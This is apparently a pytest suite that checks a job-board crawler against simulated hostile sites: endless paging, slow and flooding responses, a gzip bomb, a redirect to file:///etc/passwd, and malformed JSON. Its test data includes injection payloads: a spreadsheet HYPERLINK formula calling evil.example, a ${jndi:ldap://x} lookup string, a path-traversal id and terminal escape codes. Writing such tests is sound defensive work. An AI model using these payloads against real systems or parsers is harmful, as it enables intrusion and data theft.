"""Sites that mean no good: each ends in its outcome, within the budget, and costs no other source anything."""

import gzip
import json
import time
from http.server import BaseHTTPRequestHandler
from typing import Any

import polars as pl
import pytest

from pipelines.store import Folder
from tests.loopback import Answer, answer, crawl, redirect, serving, stream, write_sources
from tests.test_crawl import JOB, ledger

PAGES = 25
BOARD = "/posting-api/job-board"
LIMITS = [f"SOURCE_PAGES={PAGES}", "DOWNLOAD_MAXSIZE=4000000", "DOWNLOAD_TIMEOUT=4", "RETRY_TIMES=1", "TABLES=0"]


def page(body: str) -> Answer:
    return answer(f"<!doctype html><title>Jobs</title>{body}", kind="text/html; charset=utf-8")


def posting(title: str) -> str:
    told = {"@type": "JobPosting", "title": title, "url": f"/jobs/{title[:20]}", "description": "<p>Call.</p>"}
    return f'<script type="application/ld+json">{json.dumps(told)}</script>'


def endless(handler: BaseHTTPRequestHandler) -> None:
    """A listing that always has a next page, each with a posting of its own."""
    number = int(handler.path.partition("page=")[2] or 0) + 1
    page(f'{posting(f"Collector {number}")}<a rel="next" href="/endless?page={number}">more</a>')(handler)


def drip(handler: BaseHTTPRequestHandler) -> None:
    """A byte a second."""
    handler.send_response(200)
    handler.send_header("Content-Length", "1000")
    handler.end_headers()
    for _ in range(20):
        handler.wfile.write(b"[")
        handler.wfile.flush()
        time.sleep(1)


def flood(handler: BaseHTTPRequestHandler) -> None:
    """A body without an announced length and without an end."""
    handler.send_response(200)
    handler.send_header("Connection", "close")
    handler.end_headers()
    handler.close_connection = True
    for _ in range(200):
        handler.wfile.write(b"x" * 1_000_000)


def cookie(handler: BaseHTTPRequestHandler) -> None:
    """Whoever brings the cookie back is shown something else."""
    fooled = "Cookie" in handler.headers
    answer({"jobs": [JOB | {"title": "Fooled" if fooled else "Collector"}]}, Set_Cookie="seen=1")(handler)


BOMB = answer(gzip.compress(b" " * 300_000_000, 6), Content_Encoding="gzip")
ODD = [
    JOB | {"id": "nul\0nul", "title": "Collector\0 \x07\x1b[31m\u202ered"},
    JOB | {"id": "far", "publishedAt": "9999-12-31T23:59:59.999+00:00"},
    JOB | {"id": "old", "publishedAt": "1970-01-01T00:00:00.000+00:00"},
    JOB | {"id": "formula", "title": '=HYPERLINK("http://evil.example","Collector")'},
    JOB | {"id": "../../etc/passwd", "title": "{{ 7*7 }} ${jndi:ldap://x} Collector"},
    JOB | {"id": "long", "title": "Collector " * 200_000},
]
HOSTILE: dict[str, tuple[str, Answer, str]] = {
    "endless": ("jsonld", endless, "ok"),
    "mirror": ("jsonld", page('<a rel="next" href="/mirror">more</a><a rel="next" href="/mirror#2">more</a>'), "empty"),
    "huge": ("ashby", stream(10_000), "error"),
    "flood": ("ashby", flood, "error"),
    "bomb": ("ashby", BOMB, "error"),
    "drip": ("ashby", drip, "error"),
    "file": ("ashby", redirect("file:///etc/passwd"), "error"),
    "refuses": ("ashby", answer("", 429), "blocked"),
    "waits": ("ashby", answer("", 429, Retry_After="1"), "blocked"),
    "cookie": ("ashby", cookie, "ok"),
    "deep": ("ashby", answer(b'{"jobs":' + b"[" * 100_000), "error"),
    "odd": ("ashby", answer({"jobs": ODD}), "ok"),
}


@pytest.fixture(scope="module")
def bad_day(tmp_path_factory):
    place = tmp_path_factory.mktemp("hostile")
    answers = {
        (f"/{name}" if kind == "jsonld" else f"{BOARD}/{name}"): give for name, (kind, give, _) in HOSTILE.items()
    }
    with serving(answers | {f"{BOARD}/good": answer({"jobs": [JOB]})}) as site:
        blocks: dict[str, dict[str, Any]] = {"good": {"board": "ashby", "token": "good", "base_url": site.url}}
        for name, (kind, _, _) in HOSTILE.items():
            where = {"url": f"{site.url}/{name}"} if kind == "jsonld" else {"token": name, "base_url": site.url}
            blocks[name] = {"board": kind} | where
        tls = site.url.replace("http://", "https://")
        blocks["tls"] = {"board": "ashby", "token": "tls", "base_url": tls}
        blocks["dotted"] = {"board": "ashby", "token": "good", "base_url": site.url.replace("127.0.0.1", "localhost.")}
        blocks["idn"] = {"board": "ashby", "token": "x", "base_url": "http://b\u00fccher.invalid"}
        words = [word for limit in LIMITS for word in ("-s", limit)]
        sources = write_sources(place / "sources.toml", blocks)
        before = time.monotonic()
        ran = crawl(place / "data", "-a", f"sources={sources}", "-s", "CONTACT=me@example.org", *words)
        asked = [path for _, path, _ in site.asked]
    return place / "data", ran, asked, time.monotonic() - before


def test_the_crawl_ends_in_good_order(bad_day):
    data, ran, _, seconds = bad_day
    assert ran.returncode == 0, ran.stderr
    assert "Traceback" not in ran.stderr
    assert "\x1b[31m" not in ran.stderr
    assert seconds < 90
    rows = Folder(data).read_postings()
    assert "good:a1" in rows["posting_id"].to_list()


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_site_ends_in_its_outcome(bad_day, name):
    row = ledger(bad_day[0]).row(by_predicate=pl.col("source") == name, named=True)
    assert row["outcome"] == HOSTILE[name][2], row
    assert "\n" not in row["reason"]
    assert row["bytes"] < 20_000_000


@pytest.mark.parametrize("name", ["tls", "idn"])
def test_a_host_that_cannot_be_reached(bad_day, name):
    row = ledger(bad_day[0]).row(by_predicate=pl.col("source") == name, named=True)
    assert (row["outcome"], row["found"]) == ("error", 0)


def test_paging_without_end_stops_at_the_budget(bad_day):
    data, _, asked, _ = bad_day
    assert len([path for path in asked if path.startswith("/endless")]) == PAGES
    row = ledger(data).row(by_predicate=pl.col("source") == "endless", named=True)
    assert "budget" in row["reason"]
    assert len([path for path in asked if path.startswith("/mirror")]) == 1


def test_nothing_odd_is_lost_or_believed(bad_day):
    rows = Folder(bad_day[0]).read_postings()
    odd = {row["posting_id"]: row for row in rows.filter(pl.col("source") == "odd").iter_rows(named=True)}
    assert len(odd) == len(ODD)
    assert odd["odd:far"]["posted_on"] is None
    assert odd["odd:old"]["posted_on"] is None
    assert not any("\0" in (row["title_text"] + row["posting_id"]) for row in odd.values())
    assert rows.filter(pl.col("source") == "cookie")["title_text"].to_list() == ["Collector"]
